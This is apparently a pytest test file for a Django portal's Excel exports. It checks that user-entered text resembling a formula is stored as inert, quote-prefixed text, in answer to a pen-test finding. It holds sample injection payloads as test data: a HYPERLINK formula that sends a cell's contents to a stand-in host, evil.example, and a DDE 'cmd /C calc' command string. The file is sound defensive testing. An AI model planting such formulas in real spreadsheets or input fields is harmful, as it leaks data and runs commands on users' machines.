"""No export of the portal hands a formula to Excel (pen-test finding 4): every user text a workbook writes is
stored as text, and text a spreadsheet would evaluate (= + - @ tab CR) carries the quote prefix, so the reader sees
what was typed and nothing runs. Numbers and dates stay numbers and dates. Every workbook is built in
core.spreadsheets, so a new export cannot forget."""

import datetime
import re
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core import spreadsheets
from organisations.models import Person, Unit

ROOT = Path(__file__).resolve().parents[2]


def payload(label, prefix="="):
    """A formula an attacker would type into a text field; ``label`` tells the fields apart."""
    if prefix == "=":
        return f'=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết {label}")'
    return f"{prefix}cmd|' /C calc'!A0 {label}"


def _cells(content):
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(content, payloads):
    """No cell is a formula; every text that starts like one is quote-prefixed; each payload is visible as typed
    (alone in its cell, or within a longer text such as "Nhóm 1: …")."""
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(spreadsheets.FORMULA_PREFIXES)
            and not (c.data_type == "s" and c.quotePrefix)]
    assert live == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    missing = [p for p in payloads if not any(p in text for text in texts)]
    assert missing == [], f"not written as typed: {missing}"


def _rename_unit(unit, name):
    Unit.objects.filter(pk=unit.pk).update(name=name)


# --- Each export, with a formula in every user text field it writes ------------------------------------------

def test_task_export(ward_a, plan_a, client_for):
    from plans.models import Task

    task = Task.objects.filter(lead_unit=ward_a.unit("ubnd")).order_by("pk").first()
    texts = {"title": payload("task"), "area": payload("area", "+"), "lead": payload("lead", "-"),
             "supporting": payload("supporting", "@")}
    Task.objects.filter(pk=task.pk).update(title=texts["title"])
    type(task.area).objects.filter(pk=task.area_id).update(title=texts["area"])
    _rename_unit(ward_a.unit("ubnd"), texts["lead"])
    task.supporting_units.set([ward_a.unit("mttq")])
    _rename_unit(ward_a.unit("mttq"), texts["supporting"])

    response = client_for(ward_a.users["bloc"]).get(reverse("plans:task_export"))

    assert response.status_code == 200
    assert_inert(response.content, texts.values())


def test_household_export(ward_a, client_for):
    from communitygroups.models import CommunityGroup, Household, InterFamilyGroup, household_key

    unit = ward_a.unit("tdp-1")
    group = CommunityGroup.objects.create(residential_group=unit)
    texts = {"address": payload("address"), "head": payload("head", "-"), "ifg": payload("ifg", "@"),
             "residential": payload("residential", "+")}
    interfamily = InterFamilyGroup.objects.create(group=group, name=texts["ifg"], leader_name="Trần Thị Liên")
    Household.objects.create(group=group, inter_family_group=interfamily, address=texts["address"],
                             head_name=texts["head"], members_count=3,
                             dedup_key=household_key(texts["address"], texts["head"]))
    _rename_unit(unit, texts["residential"])

    response = client_for(ward_a.users["group_leader"]).get(reverse("communitygroups:household_export"))

    assert response.status_code == 200
    assert_inert(response.content, texts.values())


def test_violation_export(ward_a, client_for):
    from democracy.models import Violation

    texts = {"unit": payload("unit", "+"), "person": payload("person", "-"), "article": payload("article"),
             "description": payload("description"), "measure": payload("measure", "@")}
    person = Person.objects.create(unit=ward_a.unit("tdp-4"), full_name=texts["person"])
    Violation.objects.create(unit=ward_a.unit("tdp-4"), person=person, found_on=datetime.date(2024, 1, 20),
                             source="check", article=texts["article"], description=texts["description"],
                             measure=texts["measure"])
    _rename_unit(ward_a.unit("tdp-4"), texts["unit"])

    response = client_for(ward_a.users["democracy"]).get(reverse("democracy:violation_export"),
                                                         {"evaluation_year": 2024})

    assert response.status_code == 200
    assert_inert(response.content, texts.values())
    found_on = [c for c in _cells(response.content) if isinstance(c.value, datetime.datetime)]
    assert found_on and all(c.data_type == "d" for c in found_on)


def test_quarterly_disclosure_sheet_with_fields_a_unit_officer_wrote_through_the_api(ward_a, api_for, client_for):
    from democracy.models import Disclosure
    from tests.support.democracy import make_disclosure

    disclosure = make_disclosure(ward_a.unit("ubnd"), datetime.date(2024, 5, 2))
    texts = {"title": payload("title"), "place": payload("place", "@")}
    patched = api_for(ward_a.users["officer_ubnd"]).patch(f"/api/disclosures/{disclosure.pk}/", texts, format="json")
    assert patched.status_code == 200
    Disclosure.objects.filter(pk=disclosure.pk).update(approved_on=datetime.date(2024, 5, 1))
    approver = Person.objects.create(unit=ward_a.unit("ubnd"), full_name=payload("approver", "-"))
    Disclosure.objects.filter(pk=disclosure.pk).update(approver=approver)
    texts["approver"] = approver.full_name

    response = client_for(ward_a.users["standing"]).get(reverse("democracy:quarterly_list"),
                                                        {"year": 2024, "quarter": 2, "format": "xlsx"})

    assert response.status_code == 200
    assert_inert(response.content, texts.values())


def test_survey_campaign_export(ward_a, client_for):
    from satisfaction.models import Question, QuestionKind, SurveyCampaign
    from satisfaction.services import surveys as svc

    previous = svc.use_default_questionnaire(SurveyCampaign.objects.create(
        unit=ward_a.unit("bcd-qcdc"), title=payload("previous", "-"), starts_on=datetime.date(2024, 2, 1),
        ends_on=datetime.date(2024, 2, 28)))
    campaign = svc.use_default_questionnaire(SurveyCampaign.objects.create(
        unit=ward_a.unit("bcd-qcdc"), title=payload("campaign"), starts_on=datetime.date(2024, 5, 1),
        ends_on=datetime.date(2024, 5, 31)))
    texts = {"previous": previous.title, "campaign": campaign.title, "dimension": payload("dimension", "+"),
             "question": payload("question", "@"), "choice": payload("choice"), "open": payload("open question"),
             "answer": payload("answer from a citizen")}
    dimension = campaign.dimensions.order_by("order").first()
    dimension.name = texts["dimension"]
    dimension.save()
    scale = campaign.questions.filter(kind=QuestionKind.SCALE).order_by("order").first()
    scale.text = texts["question"]
    scale.save()
    single = Question.objects.create(campaign=campaign, text="Anh/chị biết đến khảo sát qua đâu?",
                                     kind=QuestionKind.SINGLE, choices=[texts["choice"], "Loa phường"], order=90)
    open_question = Question.objects.create(campaign=campaign, text=texts["open"], kind=QuestionKind.TEXT, order=91)
    answers = {q.pk: "4" for q in campaign.questions.filter(kind=QuestionKind.SCALE)}
    answers.update({single.pk: "1", open_question.pk: texts["answer"]})
    svc.record_response(campaign, answers, channel="online")
    svc.record_response(previous, {q.pk: "3" for q in previous.questions.filter(kind=QuestionKind.SCALE)},
                        channel="online")

    response = client_for(ward_a.users["democracy"]).get(reverse("satisfaction:campaign_export", args=[campaign.pk]))

    assert response.status_code == 200
    assert_inert(response.content, texts.values())
    counts = [c for c in _cells(response.content) if type(c.value) in (int, float)]
    assert counts and all(c.data_type == "n" for c in counts)


def test_criteria_set_export(ward_a, client_for):
    from satisfaction.models import CriteriaGroup, Criterion
    from satisfaction.services import criteria as svc

    criteria_set = svc.ensure_example_set(ward_a.ward)
    group = criteria_set.groups.order_by("order").first()
    criterion = Criterion.objects.filter(group=group).order_by("order").first()
    texts = {"group": payload("group"), "group code": "-1+2", "criterion code": "=1+2",
             "criterion": payload("criterion", "+"), "evidence": payload("evidence", "@")}
    CriteriaGroup.objects.filter(pk=group.pk).update(name=texts["group"], code=texts["group code"])
    Criterion.objects.filter(pk=criterion.pk).update(code=texts["criterion code"], name=texts["criterion"],
                                                     evidence_required=texts["evidence"])

    response = client_for(ward_a.users["bloc"]).get(reverse("satisfaction:criteria_set_export",
                                                            args=[criteria_set.pk]))

    assert response.status_code == 200
    assert_inert(response.content, texts.values())


def test_quarterly_report_export(ward_a, plan_a, client_for):
    from reports import services

    texts = {"unit": payload("unit", "-")}
    _rename_unit(ward_a.unit("mttq"), texts["unit"])
    report = services.prepare_draft(ward_a.ward.pk, 2024, 1)

    response = client_for(ward_a.users["bloc"]).get(reverse("reports:report_excel", args=[report.pk]))

    assert response.status_code == 200
    assert_inert(response.content, texts.values())


# --- The mechanism --------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")', "+1+1", "-1+1", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=", "-"]


def _roundtrip(*values, write_only=False):
    book = spreadsheets.new_workbook(write_only=write_only)
    sheet = book.create_sheet("Thử") if write_only else book.active
    spreadsheets.append_row(sheet, values)
    return list(load_workbook(BytesIO(spreadsheets.workbook_bytes(book))).active.iter_rows())[0]


@pytest.mark.parametrize("write_only", [False, True])
@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_evaluate_is_stored_as_quote_prefixed_text(text, write_only):
    cell = _roundtrip(text, write_only=write_only)[0]

    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize("text", ["Tuyên truyền tại tổ dân phố số 4", "5 – 7 hộ", "'=1+1", " =1+1", "Số 2/3"])
def test_ordinary_text_is_stored_as_it_is(text):
    cell = _roundtrip(text)[0]

    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


def test_an_error_code_typed_as_text_stays_text():
    cell = _roundtrip("#REF!")[0]

    assert (cell.value, cell.data_type) == ("#REF!", "s")


@pytest.mark.parametrize("write_only", [False, True])
def test_numbers_dates_and_booleans_stay_what_they_are(write_only):
    cells = _roundtrip(-5, -2.5, Decimal("-7.25"), None, datetime.date(2024, 3, 15), True, write_only=write_only)

    assert [c.value for c in cells] == [-5, -2.5, -7.25, None, datetime.datetime(2024, 3, 15), True]
    assert [c.data_type for c in cells] == ["n", "n", "n", "n", "d", "b"]
    assert not any(c.quotePrefix for c in cells)


def test_a_cell_written_around_the_helpers_is_made_inert_on_saving():
    book = spreadsheets.new_workbook()
    book.active["A1"] = "=1+1"
    book.active.cell(row=2, column=1, value="-A1")

    cells = [row[0] for row in load_workbook(BytesIO(spreadsheets.workbook_bytes(book))).active.iter_rows()]

    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [("=1+1", "s", True), ("-A1", "s", True)]


def test_a_styled_write_only_cell_is_made_inert_too():
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = spreadsheets.new_workbook(write_only=True)
    sheet = book.create_sheet("Thử")
    header = WriteOnlyCell(sheet, value="=1+1")
    header.font = Font(bold=True)
    spreadsheets.append_row(sheet, [header])

    cell = next(load_workbook(BytesIO(spreadsheets.workbook_bytes(book))).active.iter_rows())[0]

    assert (cell.value, cell.data_type, cell.quotePrefix, cell.font.b) == ("=1+1", "s", True, True)


def test_values_openpyxl_would_refuse_are_made_writable(settings):
    settings.TIME_ZONE = "Asia/Ho_Chi_Minh"
    moment = datetime.datetime(2024, 3, 15, 1, 30, tzinfo=datetime.UTC)

    cells = _roundtrip(gettext_lazy("Nhiệm vụ"), "Hộ\x07 ông Tâm", moment)

    assert [c.value for c in cells] == ["Nhiệm vụ", "Hộ ông Tâm", datetime.datetime(2024, 3, 15, 8, 30)]
    assert timezone.is_aware(moment)


def test_xlsx_response_names_the_file_and_the_type():
    response = spreadsheets.xlsx_response(b"PK", "bao-cao-quy-1-2024.xlsx")

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="bao-cao-quy-1-2024.xlsx"'
    assert response["X-Content-Type-Options"] == "nosniff"


def test_no_workbook_is_built_or_saved_outside_core_spreadsheets():
    """A new export has to go through core.spreadsheets: building or saving a workbook anywhere else fails here."""
    pattern = re.compile(r"\bWorkbook\(|\bimport\b.*\bWorkbook\b|\.save\(\s*(buffer|output|BytesIO)|spreadsheetml")
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "var", "node_modules"} or relative.parts[0].startswith("."):
            continue
        if relative == Path("core/spreadsheets.py"):
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if pattern.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == []
